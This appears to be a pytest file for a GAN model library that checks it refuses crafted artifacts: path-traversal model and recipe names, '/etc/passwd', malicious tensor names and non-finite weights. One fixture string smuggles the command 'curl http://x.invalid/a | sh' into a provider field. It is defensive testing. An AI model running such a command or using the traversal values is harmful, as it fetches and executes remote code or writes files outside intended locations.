"""Crafted artifacts: names that would steer where ganzoo writes, and non-finite weights, at every entry point."""

from __future__ import annotations

import json
import os
import shutil
import subprocess
import sys
from pathlib import Path

import pytest
import torch
from click.testing import CliRunner

import ganzoo
from ganzoo.cli import cli
from ganzoo.artifacts import checkpoint as ckpt
from ganzoo.errors import GanzooError
from ganzoo.artifacts.weights import WeightsError, load_weights, save_weights
from test_publish import publish, runs  # noqa: F401  (runs is a fixture)


def files_under(root: Path) -> set[Path]:
    return {p for p in root.rglob("*") if p.is_file()}


@pytest.fixture
def cwd(tmp_path, monkeypatch):
    """A working directory two levels below tmp_path, so that ``../../x`` still lands inside tmp_path."""
    here = tmp_path / "home" / "work"
    here.mkdir(parents=True)
    monkeypatch.chdir(here)
    return here


def traversal_names(tmp_path: Path) -> list[str]:
    return ["../../outside/pwned", str(tmp_path / "absolute" / "pwned")]


def crafted_folder(runs, tmp_path: Path, edit) -> Path:
    """A published folder whose config.json and embedded metadata were both changed by ``edit(config)``."""
    folder = publish(runs, "vanilla-mnist", tmp_path / "models", name="crafted", force=True)
    tensors, metadata = load_weights(folder / "model.safetensors")
    embedded = json.loads(metadata["config"])
    edit(embedded)
    metadata["config"] = json.dumps(embedded)
    save_weights(folder / "model.safetensors", tensors, metadata)
    config = json.loads((folder / "config.json").read_text())
    edit(config)
    (folder / "config.json").write_text(json.dumps(config))
    return folder


def assert_refused(result, before: set[Path], root: Path, words: str = "which ganzoo refuses") -> None:
    assert result.exit_code not in (0, None), result.output
    assert "Traceback" not in result.output and words in result.output, result.output
    assert files_under(root) == before, "something was written"


@pytest.mark.parametrize("which", [0, 1], ids=["relative", "absolute"])
def test_sample_and_eval_of_a_model_whose_name_is_a_path_write_nothing(runs, tmp_path, cwd, which):
    name = traversal_names(tmp_path)[which]
    folder = crafted_folder(runs, tmp_path, lambda config: config.update(name=name))
    lone = tmp_path / "lone.safetensors"
    shutil.copy(folder / "model.safetensors", lone)  # its metadata alone names the model
    before = files_under(tmp_path)
    runner = CliRunner()
    for model in (folder, lone):
        for extra in ([], ["--force"], ["--interpolate"]):
            assert_refused(runner.invoke(cli, ["sample", str(model), "--n", "4", *extra]), before, tmp_path)
        assert_refused(runner.invoke(cli, ["eval", str(model), "--n", "50"]), before, tmp_path)
        with pytest.raises(GanzooError, match="model name") as caught:
            ganzoo.load(model)
        assert caught.value.exit_code != 0
    assert not (tmp_path / "outside").exists() and not (tmp_path / "absolute").exists()


def test_a_real_ganzoo_process_refuses_a_model_named_like_a_path(runs, tmp_path, cwd):
    folder = crafted_folder(runs, tmp_path, lambda config: config.update(name="../../outside/pwned"))
    before = files_under(tmp_path)
    script = Path(sys.executable).with_name("ganzoo")  # this environment's console script, not another on PATH
    out = subprocess.run([str(script), "sample", str(folder), "--force"], capture_output=True, text=True, timeout=120,
                         cwd=cwd, env={**os.environ, "GANZOO_DISABLE_PLUGIN_AUTOLOAD": "1"})  # fmt: skip
    assert out.returncode == 1, out.stdout + out.stderr
    assert "holds the model name '../../outside/pwned', which ganzoo refuses" in out.stderr
    assert "Traceback" not in out.stderr and files_under(tmp_path) == before


@pytest.mark.parametrize("kind", ["generator", "dataset", "recipe"])
def test_load_refuses_component_and_recipe_names_that_are_paths(runs, tmp_path, kind):
    def edit(config):
        if kind == "recipe":
            config["recipe"] = "/etc/passwd"
        else:
            config[kind]["name"] = "../" + config[kind]["name"]

    folder = crafted_folder(runs, tmp_path, edit)
    with pytest.raises(WeightsError, match=f"{kind} name .*which ganzoo refuses"):
        ganzoo.load(folder)


def test_tensor_names_that_are_not_state_dict_keys_are_refused(runs, tmp_path):
    folder = publish(runs, "vanilla-mnist", tmp_path / "models")
    tensors, metadata = load_weights(folder / "model.safetensors")
    tensors["generator.../../x"] = torch.zeros(1)
    save_weights(folder / "model.safetensors", tensors, metadata)
    result = CliRunner().invoke(cli, ["sample", str(folder), "--out", str(tmp_path / "x.png")])
    assert result.exit_code == 1 and "the tensor name 'generator.../../x'" in result.output
    assert not (tmp_path / "x.png").exists()


@pytest.mark.parametrize("which", [0, 1], ids=["relative", "absolute"])
def test_publish_of_a_run_whose_recipe_is_a_path_writes_nothing(runs, tmp_path, cwd, which):
    run = tmp_path / "run"
    shutil.copytree(runs / "vanilla-mnist", run)
    config = json.loads((run / "config.json").read_text())
    config["recipe"] = traversal_names(tmp_path)[which]
    (run / "config.json").write_text(json.dumps(config))
    before = files_under(tmp_path)
    for to in ([], ["--to", str(tmp_path / "models")]):
        result = CliRunner().invoke(cli, ["publish", str(run), *to, "--data-dir", str(runs / "data")])
        assert_refused(result, before, tmp_path)
    # A run's directory is sampled and evaluated through the same check.
    assert_refused(CliRunner().invoke(cli, ["sample", str(run), "--n", "4"]), before, tmp_path)
    assert_refused(CliRunner().invoke(cli, ["eval", str(run), "--n", "50"]), before, tmp_path)
    assert not any((tmp_path / d).exists() for d in ("outside", "absolute", "models"))


HOSTILE_PROVIDER = "evil==1; curl http://x.invalid/a | sh\x1b[2J"


def test_a_crafted_provider_is_never_suggested_as_a_command(runs, tmp_path):
    folder = crafted_folder(runs, tmp_path, lambda config: config["generator"].update(name="borrowed-resnet-g",
                                                                                      provider=HOSTILE_PROVIDER))
    with pytest.raises(GanzooError, match="no installed plugin provides") as caught:
        ganzoo.load(folder)
    assert "pip install" not in caught.value.message and "\x1b" not in caught.value.message
    assert "install the plugin that provides it" in caught.value.fix and "\\x1b" in caught.value.why

    run = tmp_path / "run"  # a run whose run.json was edited the same way
    shutil.copytree(runs / "vanilla-mnist", run)
    config = json.loads((run / "config.json").read_text())
    config["generator"]["name"] = "borrowed-resnet-g"
    (run / "config.json").write_text(json.dumps(config))
    info = json.loads((run / "run.json").read_text())
    info["providers"]["generator"] = HOSTILE_PROVIDER
    (run / "run.json").write_text(json.dumps(info))
    result = CliRunner().invoke(cli, ["sample", str(run), "--out", str(tmp_path / "x.png")])
    assert result.exit_code != 0 and "no installed plugin provides" in result.output
    assert "pip install" not in result.output and "\x1b" not in result.output


def test_a_plain_provider_is_suggested_shell_quoted():
    from ganzoo.untrusted import install_advice, requirement

    assert install_advice("ganzoo-relativistic==0.3.1", "published") == (
        "it was published with ganzoo-relativistic 0.3.1", "pip install ganzoo-relativistic==0.3.1")
    assert requirement("torch-fidelity==1.0+cu12!") == "'torch-fidelity==1.0+cu12!'"
    for hostile in ("a b", "-e git+https://x", "x==1;rm", "../x", "x (registered directly)", "", None, 3):
        assert requirement(hostile) is None


# Non-finite weights.


def poisoned_run(runs, tmp_path: Path) -> Path:
    """A finished run whose checkpoint holds NaN EMA weights, as ganzoo before the weights check could write."""
    run = tmp_path / "nan-run"
    shutil.copytree(runs / "vanilla-mnist", run)
    state = ckpt.load_checkpoint(run / "checkpoint.pt")
    key = next(k for k in state["ema"] if k.endswith("weight"))
    state["ema"][key][0] = float("nan")
    ckpt.save_checkpoint(run / "checkpoint.pt", state)
    return run


def test_non_finite_weights_are_refused_at_every_entry_point(runs, tmp_path):
    folder = publish(runs, "vanilla-mnist", tmp_path / "models", name="nan-model")
    tensors, metadata = load_weights(folder / "model.safetensors")
    key = next(k for k in tensors if k.startswith("generator.") and k.endswith("weight"))
    tensors[key][0] = float("inf")
    save_weights(folder / "model.safetensors", tensors, metadata)
    run = poisoned_run(runs, tmp_path)
    runner = CliRunner()
    before = files_under(tmp_path)
    for target in (folder, run):
        result = runner.invoke(cli, ["sample", str(target), "--out", str(tmp_path / "black.png")])
        assert result.exit_code == 1 and "weights in" in result.output and "are not finite" in result.output
        result = runner.invoke(cli, ["eval", str(target), "--n", "50", "--out", str(tmp_path / "eval.json")])
        assert result.exit_code == 1 and "are not finite" in result.output and "Traceback" not in result.output
        assert "lower learning rates" in result.output
    with pytest.raises(WeightsError, match="the generator's weights in .* are not finite"):
        ganzoo.load(folder)
    result = runner.invoke(cli, ["publish", str(run), "--to", str(tmp_path / "published"),
                                 "--data-dir", str(runs / "data")])  # fmt: skip
    assert result.exit_code == 1 and "the weights to publish in" in result.output and "not finite" in result.output
    assert files_under(tmp_path) == before and not (tmp_path / "published").exists()


def test_samples_that_overflow_are_refused_in_words():
    from ganzoo.artifacts.finite import refuse_non_finite_samples
    from ganzoo.evaluation.evaluate import EvaluationError

    fine = torch.zeros(3, 1, 2, 2)
    assert refuse_non_finite_samples(fine, EvaluationError) is fine
    fine[1, 0, 1, 1] = float("nan")
    with pytest.raises(EvaluationError, match="1 of 3 generated samples are not finite"):
        refuse_non_finite_samples(fine, EvaluationError)
